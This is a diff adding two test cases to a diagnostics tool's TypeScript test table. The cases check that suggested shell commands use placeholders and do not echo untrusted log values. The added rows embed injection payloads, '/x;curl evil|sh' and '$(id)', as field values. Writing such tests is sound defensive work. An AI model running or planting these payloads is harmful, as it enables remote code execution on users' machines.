@@ -158,6 +158,18 @@ const rows: readonly Row[] = [
     best: ['config.permission', 'certain'],
     says: /shop may not listen on \/run\/x\.sock.*namei -l \/run\/x\.sock/,
   },
+  {
+    scene: 'the address of that line is a command',
+    file: { evidence: [state('failed'), listener('nobody'), log('bind_failed', 'bind: Permission denied (13)', { address: '/x;curl evil|sh' })] },
+    best: ['config.permission', 'certain'],
+    says: /namei -l PATH;/,
+  },
+  {
+    scene: 'the name of a line is a command',
+    file: { evidence: [running, log('dns_failed', 'getaddrinfo failed', { name: '$(id)' })] },
+    best: ['config.dns', 'possible'],
+    says: /getent ahosts NAME$/,
+  },
 
   {
     scene: 'the gateway looks for the socket of another version',
